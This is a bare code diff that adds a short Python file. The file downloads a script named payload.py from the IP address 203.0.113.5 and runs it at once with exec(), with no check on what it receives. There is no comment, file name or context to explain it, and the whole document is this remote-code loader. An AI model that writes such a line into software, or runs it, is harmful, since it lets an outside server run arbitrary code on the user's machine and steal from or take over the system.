@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("http://203.0.113.5/payload.py", timeout=5).text)
